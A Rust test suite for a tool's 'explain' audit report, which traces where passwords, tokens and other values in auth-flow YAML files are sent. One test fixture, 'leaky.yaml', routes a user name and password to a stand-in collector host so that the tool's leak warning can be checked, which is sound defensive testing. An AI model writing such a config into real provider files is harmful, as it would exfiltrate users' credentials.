//! `otvi-codegen explain`: the audit report says where each value goes, as text, JSON and a
//! Mermaid graph, and warns when a password or secret leaves the provider's host.

use std::process::Command;

fn explain(file: &str, format: &str) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_otvi-codegen"))
        .args(["explain", file, "--format", format])
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into(),
        String::from_utf8_lossy(&out.stderr).into(),
    )
}

fn shipped(name: &str) -> String {
    format!("{}/../providers/{name}", env!("CARGO_MANIFEST_DIR"))
}

#[test]
fn the_report_says_where_each_value_goes_and_nowhere_else() {
    let (code, out, err) = explain(&shipped("acme.yaml"), "human");
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("`input.password` (a `password` field) -> POST https://api.acme.example/v2/auth/login, JSON body field `$.password`; nowhere else"),
        "{out}"
    );
    assert!(
        out.contains("sends input.otp (sensitive) in the JSON body field `$.code`"),
        "{out}"
    );
    assert!(
        out.contains("keeps access_token from body $.data.access_token (sensitive)"),
        "{out}"
    );
    assert!(out.contains("asks for otp (text)"), "{out}");
    assert!(
        out.contains("sends stored.access_token (sensitive) in the header `Authorization`"),
        "{out}"
    );
    // The last step's success completes the flow.
    assert!(
        out.contains("when status 2xx -> complete (the session is stored)"),
        "{out}"
    );
    assert!(!err.contains("warning"), "{err}");
}

#[test]
fn json_lists_every_request_with_its_destination_and_uses() {
    let (code, out, _) = explain(&shipped("indee.yaml"), "json");
    assert_eq!(code, 0);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["provider"], "indee");
    let steps: Vec<&serde_json::Value> = v["flows"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| f["steps"].as_array().unwrap())
        .collect();
    assert!(!steps.is_empty());
    for s in &steps {
        assert_eq!(s["request"]["scheme"], "https");
        assert_eq!(s["request"]["host"], "admin-api.indee.example");
    }
    let api_key = v["sensitive"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["value"] == "secret.api_key")
        .expect("the API key is reported");
    assert!(api_key["sent_to"]
        .as_array()
        .unwrap()
        .iter()
        .all(|t| t.as_str().unwrap().ends_with("header `Authorization`")));
    assert_eq!(v["warnings"], serde_json::json!([]));
}

#[test]
fn mermaid_draws_steps_and_outcomes() {
    let (code, out, _) = explain(&shipped("truenas.yaml"), "mermaid");
    assert_eq!(code, 0);
    assert!(out.starts_with("flowchart TD\n"), "{out}");
    assert!(out.contains("subgraph"), "{out}");
    assert!(out.contains("-->|"), "{out}");
    assert!(out.contains("([complete])"), "{out}");
}

#[test]
fn a_password_sent_to_another_host_is_a_warning() {
    let dir = std::env::temp_dir().join(format!("otvi-explain-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("leaky.yaml");
    std::fs::write(
        &file,
        r#"provider:
  id: leaky
  name: "Leaky"
defaults:
  base_url: "https://api.leaky.example"
auth:
  flows:
    - id: login
      name: "Login"
      inputs:
        - { key: user, label: "User", required: true }
        - { key: password, label: "Password", type: password, required: true }
      steps:
        - name: "Sign in"
          request:
            method: POST
            path: "https://collector.elsewhere.example/grab?u={{input.user}}"
            body: '{"pw": "{{input.password}}"}'
          on_success:
            extract:
              token: "$.token"
"#,
    )
    .unwrap();
    let (code, out, err) = explain(file.to_str().unwrap(), "human");
    let _ = std::fs::remove_dir_all(&dir);
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("sends input.user in the query parameter")
            || out.contains("sends input.user in the URL path"),
        "{out}"
    );
    assert!(
        err.contains("warning: `input.password` goes to collector.elsewhere.example (JSON body field `$.pw`), not the provider's host api.leaky.example"),
        "{err}"
    );
}

#[test]
fn a_file_that_does_not_check_is_not_explained() {
    let bad = format!(
        "{}/../tests/invalid/unknown-key-on-sucess.yaml",
        env!("CARGO_MANIFEST_DIR")
    );
    let (code, out, err) = explain(&bad, "human");
    assert_eq!(code, 1);
    assert!(out.is_empty());
    assert!(
        err.contains("on_sucess") && err.contains("nothing to explain"),
        "{err}"
    );
}

/// `text` as a provider file in a temporary directory, explained in `format`.
fn explain_text(text: &str, format: &str) -> (i32, String, String) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("p.yaml");
    std::fs::write(&file, text).unwrap();
    explain(file.to_str().unwrap(), format)
}

#[test]
fn every_way_a_step_fails_says_the_text_the_user_sees() {
    let (code, out, err) = explain(&shipped("truenas.yaml"), "human");
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("    when $.response_type == \"AUTH_ERR\" -> fail\n      error: \"Invalid username or password\"\n"),
        "{out}"
    );
    // A prompt's message is shown beside it.
    assert!(
        out.contains(
            "      says \"That code was not accepted; enter the current one\" beside the prompt\n"
        ),
        "{out}"
    );
    // No outcome takes every answer: the step fails on the others, with the status.
    assert!(
        out.contains("    when no outcome above matches -> fail\n      error: \"the provider answered HTTP N\"\n"),
        "{out}"
    );

    let (_, out, _) = explain(&shipped("indee.yaml"), "human");
    // `fail.from`, then its message; the status is known from the condition.
    assert!(
        out.contains("-> fail (the stored session is cleared)\n      error: the provider's text at `$.status_message`, else \"The session has expired; sign in again\"\n"),
        "{out}"
    );
    // The `on_success` form: an answer that is not a success fails with `error_message`.
    assert!(
        out.contains("    when status 2xx and $.status_code == \"A0000\" -> complete (the session is stored)\n      keeps token from body $.token (sensitive)\n      keeps refresh_token from body $.refresh_token (sensitive)\n    when no outcome above matches -> fail\n      error: the provider's text at `$.status_message`, else \"the provider answered HTTP N\"\n"),
        "{out}"
    );

    let (_, json, _) = explain(&shipped("indee.yaml"), "json");
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    let refresh = &v["flows"][2]["steps"][0];
    assert_eq!(
        refresh["outcomes"][1]["error"],
        serde_json::json!([
            { "provider_text": "$.status_message" },
            { "message": "The session has expired; sign in again" }
        ])
    );
    assert_eq!(refresh["outcomes"][0]["error"], serde_json::Value::Null);
    assert_eq!(
        refresh["no_match"],
        serde_json::json!([
            { "provider_text": "$.status_message" },
            { "status": "the provider answered HTTP N" }
        ])
    );
}

#[test]
fn a_failing_outcome_of_one_status_names_it_and_one_that_takes_everything_leaves_no_gap() {
    let (code, out, err) = explain_text(
        r#"provider: { id: t, name: T }
defaults: { base_url: "https://api.t.example" }
auth:
  flows:
    - id: f
      name: F
      inputs: [ { key: email, label: Email } ]
      steps:
        - name: Sign In
          request: { method: POST, path: /login, body: '{"e": "{{input.email}}"}' }
          outcomes:
            - when: { status: 200 }
              extract: { token: "$.token" }
            - when: { status: 403 }
              fail: { clear_session: true }
            - fail: { from: "$.message" }
"#,
        "human",
    );
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("    when status 403 -> fail (the stored session is cleared)\n      error: \"the provider answered HTTP 403\"\n"),
        "{out}"
    );
    assert!(
        out.contains("    when otherwise -> fail\n      error: the provider's text at `$.message`, else \"the provider answered HTTP N\"\n"),
        "{out}"
    );
    assert!(!out.contains("no outcome above matches"), "{out}");
}

#[test]
fn a_requests_url_carries_its_query_parameters() {
    let (code, out, err) = explain_text(
        r#"provider: { id: t, name: T }
defaults: { base_url: "https://api.t.example/v1" }
auth:
  flows:
    - id: f
      name: F
      inputs: [ { key: email, label: Email } ]
      steps:
        - name: Start
          request:
            method: GET
            path: /sso
            params: { lang: en, email: "{{input.email}}", "a b": "x&y=z" }
          on_success: { extract: { token: "$.token" } }
"#,
        "json",
    );
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    let r = &v["flows"][0]["steps"][0]["request"];
    assert_eq!(
        r["url"],
        "https://api.t.example/v1/sso?lang=en&email={{input.email}}&a+b=x%26y%3Dz"
    );
    assert_eq!(r["path"], "/v1/sso");
    let (_, out, _) = explain(&shipped("acme.yaml"), "human");
    assert!(!out.contains('?'), "acme sends no query: {out}");
}

#[test]
fn sensitivity_follows_where_a_value_comes_from_not_its_name() {
    // TrueNAS keeps its session cookie as `session`: sensitive wherever it goes.
    let (_, out, _) = explain(&shipped("truenas.yaml"), "human");
    assert!(
        out.contains("keeps session from cookie `tn_session` (sensitive)"),
        "{out}"
    );
    assert!(
        out.contains("sends stored.session (sensitive) in the header `Cookie`"),
        "{out}"
    );
    assert!(
        out.contains("  `stored.session` (a cookie the provider set) -> POST https://truenas.example/api/v2.0/auth/login_ex_continue, header `Cookie`; nowhere else"),
        "{out}"
    );
    assert!(
        out.contains("  `input.otp` (a code a prompt asks for) -> "),
        "{out}"
    );

    let (code, out, err) = explain_text(
        r#"provider: { id: t, name: T }
defaults: { base_url: "https://api.t.example" }
auth:
  flows:
    - id: f
      name: F
      inputs:
        - { key: email, label: Email }
        - { key: pin, label: PIN, type: tel, sensitive: true }
        - { key: country_code, label: Country, sensitive: false }
      steps:
        - name: Start
          request:
            method: POST
            path: /start
            body: '{"e": "{{input.email}}", "p": "{{input.pin}}", "c": "{{input.country_code}}"}'
          on_success:
            extract:
              sid: { header: X-Session }
              request_id: { path: "$.id", sensitive: false }
              http_status: { status: true }
            prompt: [ { key: account, label: Account, sensitive: false } ]
        - name: Finish
          request:
            method: POST
            path: /finish
            headers: { Cookie: "sid={{stored.sid}}" }
            body: '{"a": "{{input.account}}", "r": "{{stored.request_id}}", "s": "{{stored.http_status}}"}'
"#,
        "json",
    );
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    let sent: Vec<(String, bool)> = v["flows"][0]["steps"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|s| s["request"]["sends"].as_array().unwrap())
        .map(|u| {
            (
                u["value"].as_str().unwrap().to_string(),
                u["sensitive"].as_bool().unwrap(),
            )
        })
        .collect();
    let is = |name: &str| {
        sent.iter()
            .find(|(v, _)| v == name)
            .unwrap_or_else(|| panic!("{name} is not sent: {sent:?}"))
            .1
    };
    assert!(!is("input.email"));
    assert!(is("input.pin"), "marked");
    assert!(
        !is("input.country_code"),
        "a name that says code, marked not"
    );
    assert!(is("stored.sid"), "kept from the answer, whatever its name");
    assert!(!is("stored.request_id"), "marked not");
    assert!(!is("stored.http_status"), "a status");
    assert!(!is("input.account"), "a prompted field marked not");
    let keeps = &v["flows"][0]["steps"][0]["outcomes"][0]["keeps"];
    assert_eq!(
        keeps[0],
        serde_json::json!({ "key": "sid", "from": "header `X-Session`", "optional": false, "sensitive": true })
    );
    let why: Vec<(&str, &str)> = v["sensitive"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| (s["value"].as_str().unwrap(), s["why"].as_str().unwrap()))
        .collect();
    assert_eq!(
        why,
        [
            ("input.pin", "marked `sensitive: true`"),
            ("stored.sid", "kept from the provider's answer"),
        ]
    );
}

#[test]
fn a_prompts_message_from_the_provider_is_shown_with_its_fallback() {
    let src = r#"provider: { id: t, name: T }
defaults: { base_url: "https://api.t.example" }
auth:
  flows:
    - id: f
      name: F
      inputs: [ { key: email, label: Email } ]
      steps:
        - name: Sign In
          request: { method: POST, path: /login, body: '{"e": "{{input.email}}"}' }
          outcomes:
            - when: { status: 200 }
              complete: true
            - when: { status: 401 }
              prompt: [ { key: code, label: Code } ]
              message: { from: "$.notice", fallback: "Enter the code we sent" }
            - when: { status: 403 }
              prompt: [ { key: code, label: Code } ]
              message: { from: "$.notice" }
        - name: Code
          request: { method: POST, path: /code, body: '{"c": "{{input.code}}"}' }
"#;
    let (code, out, err) = explain_text(src, "human");
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("      says the provider's text at `$.notice`, else \"Enter the code we sent\", beside the prompt\n"),
        "{out}"
    );
    assert!(
        out.contains("      says the provider's text at `$.notice` (if any) beside the prompt\n"),
        "{out}"
    );
    let (_, json, _) = explain_text(src, "json");
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    let outcomes = &v["flows"][0]["steps"][0]["outcomes"];
    assert_eq!(outcomes[1]["message"], "Enter the code we sent");
    assert_eq!(outcomes[1]["message_from"], "$.notice");
    assert_eq!(outcomes[2]["message"], serde_json::Value::Null);
    assert!(outcomes[0].get("message_from").is_none());
}

#[test]
fn a_value_kept_for_one_run_is_marked_so() {
    let (code, out, err) = explain(&shipped("acme.yaml"), "human");
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains(
            "keeps request_id from body $.data.request_id (sensitive, for this run only, never in the session)"
        ),
        "{out}"
    );
    let (_, json, _) = explain(&shipped("acme.yaml"), "json");
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    let keeps = &v["flows"][1]["steps"][0]["outcomes"][0]["keeps"][0];
    assert_eq!(keeps["key"], "request_id");
    assert_eq!(keeps["for_run"], true);
    assert!(v["flows"][0]["steps"][0]["outcomes"][0]["keeps"][0]
        .get("for_run")
        .is_none());
}

#[test]
fn the_session_check_is_shown_with_what_each_answer_says() {
    let (code, out, err) = explain(&shipped("acme.yaml"), "human");
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("\ncheck (a valid answer is reused for 60s)\n    GET https://api.acme.example/v2/auth/session"),
        "{out}"
    );
    assert!(out.contains("    when status 200 -> valid\n"), "{out}");
    assert!(
        out.contains("-> invalid (the stored session is cleared)"),
        "{out}"
    );
    assert!(
        out.contains("when the provider cannot say -> valid (the session is kept)"),
        "{out}"
    );
    assert!(
        out.contains("GET https://api.acme.example/v2/auth/session, header `Authorization`"),
        "the token sent by check is listed where it goes: {out}"
    );
    assert!(
        out.contains("when status 401|403 -> invalid (the stored session is cleared)"),
        "{out}"
    );
}
